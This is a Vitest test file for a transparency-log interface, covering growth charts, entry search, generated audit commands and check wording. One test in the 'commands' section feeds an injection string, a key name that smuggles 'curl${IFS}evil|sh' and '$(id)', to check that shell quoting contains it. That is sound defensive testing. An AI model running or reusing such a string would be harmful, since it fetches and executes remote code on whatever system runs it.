// SPDX-License-Identifier: Apache-2.0
import { describe, expect, it } from 'vitest';
import { utf8 } from '../../../src/protocol/bytes';
import { growthOf, spread, stairs, thinned } from '../../../src/state/log/growth';
import { filterEntries, showEntry, typesIn } from '../../../src/state/log/shownEntries';
import type { Report } from '../../../src/state/log/report';
import { commandsFor } from '../../../src/ui/transparency/commands';
import { ago } from '../../../src/ui/format';
import { checksOf } from '../../../src/ui/transparency/checks';
import { foundWords } from '../../../src/ui/transparency/found';

describe('growth', () => {
  it('looks at few bundles, the ends among them', () => {
    expect(spread(0, 4)).toEqual([]);
    expect(spread(3, 4)).toEqual([0, 1, 2]);
    expect(spread(1000, 4)).toEqual([0, 333, 666, 999]);
  });

  it('goes in the order of the log, never back in time and not beyond now', () => {
    expect(growthOf([{ time: 9, size: 3 }, { time: 5, size: 1 }, { time: 3, size: 2 }, { time: 99, size: 4 }], 10))
      .toEqual([{ time: 5, size: 1 }, { time: 5, size: 2 }, { time: 9, size: 3 }, { time: 10, size: 4 }, { time: 10, size: 4 }]);
    expect(growthOf([], 10)).toEqual([]);
  });

  it('is a stair from corner to corner', () => {
    expect(stairs([{ time: 0, size: 1 }, { time: 5, size: 2 }, { time: 10, size: 4 }], 100, 40)).toBe('M0 40H0.0V30.0H50.0V20.0H100.0V0.0');
    expect(stairs([{ time: 7, size: 1 }, { time: 7, size: 1 }], 100, 40)).toBe('M0 40H0.0V0.0H0.0V0.0');
    expect(stairs([], 100, 40)).toBe('');
  });

  it('fits into a table with both ends', () => {
    const points = Array.from({ length: 50 }, (_, i) => ({ time: i, size: i }));
    expect(thinned(points, 3).map(({ size }) => size)).toEqual([0, 25, 49]);
    expect(thinned(points.slice(0, 2), 3)).toHaveLength(2);
  });
});

describe('entries', async () => {
  const entry = (type: string, members: object) => utf8(JSON.stringify({ v: 1, type, id: '01KB00000000000000000000ZZ', time: '2026-11-21T10:00:00Z', ...members }));
  const shown = await Promise.all([
    entry('statement', { text: 'Nobody asked for ANYTHING' }), entry('release', { manifest_sha256: 'a'.repeat(64), version: '1.2.3', git: 'b'.repeat(40) }),
    entry('future.kind', { more: 1 }), utf8('not json'),
  ].map((bytes, index) => showEntry({ index, bytes })));
  const found = (query: string, type = '') => filterEntries(shown, { query, type }).map(({ index }) => index);

  it('are found by all their words in any order, by number and by date', () => {
    expect(found('')).toEqual([0, 1, 2, 3]);
    expect(found('anything  NOBODY')).toEqual([0]);
    expect(found('nobody 1.2.3')).toEqual([]);
    expect(found('#2')).toEqual([2]);
    expect(found('2026-11-21')).toEqual([0, 1, 2]);
  });

  it('are filtered by type, those that break the rules among them', () => {
    expect(typesIn(shown)).toEqual(['future.kind', 'irregular', 'release', 'statement']);
    expect(found('', 'irregular')).toEqual([3]);
    expect(found('1.2.3', 'statement')).toEqual([]);
  });
});

describe('commands', () => {
  it('take a good name as it is', () => {
    expect(commandsFor('https://meet.example', 'meet.example/log+0a1b2c3d+AbC/d=')).toEqual({
      audit: 'vigil audit https://meet.example/log --vkey meet.example/log+0a1b2c3d+AbC/d=', curl: 'curl https://meet.example/log/checkpoint',
    });
    expect(commandsFor('https://meet.example', null).audit).toBe('vigil audit https://meet.example/log');
  });

  it('keep a hostile name one word', () => {
    expect(commandsFor('https://meet.example', "x;curl${IFS}evil|sh;'$(id)`+0a1b2c3d+A").audit)
      .toBe("vigil audit https://meet.example/log --vkey 'x;curl${IFS}evil|sh;'\\''$(id)`+0a1b2c3d+A'");
  });
});

describe('the verdict in words', () => {
  const now = 1_000_000;
  const report: Report = {
    origin: 'o', keyId: 'aabbccdd', vkey: 'v', size: 9, root: 'r', seenBefore: 5, trustedSince: now - 200_000, isFirstUse: false,
    witnesses: { named: ['a', 'b'], signed: ['a'], asked: true, since: now - 120 },
  };
  const told = (change: Partial<Report> = {}, remembers = true) => checksOf({ ...report, ...change }, remembers, now).map(({ outcome, title }) => `${outcome}: ${title}`);

  it('calls good what was checked, and says of the rest why it is unknown', () => {
    expect(told()).toEqual(['good: Signed by the log', 'good: Unchanged', 'good: Continues what you saw before', 'good: Witnessed', 'good: Fresh']);
    expect(told({ isFirstUse: true, seenBefore: null })).toContain('unknown: Your first visit');
    expect(told({}, false)).toContain('unknown: Nothing is remembered');
    expect(told({ witnesses: { named: [], signed: [], asked: false, since: null } }).at(-1)).toBe('unknown: No witnesses');
    expect(told({ witnesses: { named: ['a'], signed: ['a'], asked: false, since: null } }).at(-1)).toBe('unknown: Witnesses are not required');
  });

  it('counts in words', () => {
    expect(foundWords(6, 6, 6)).toBe('6 entries, newest first');
    expect(foundWords(2, 6, 6)).toBe('2 of 6 entries');
    expect(foundWords(256, 256, 1000)).toBe('The newest 256 of 1,000 entries');
    expect(foundWords(2, 256, 1000)).toBe('2 in the newest 256 of 1,000 entries');
    expect([ago(5), ago(60), ago(7200), ago(90_000)]).toEqual(['less than a minute ago', '1 minute ago', '2 hours ago', '1 day ago']);
  });
});
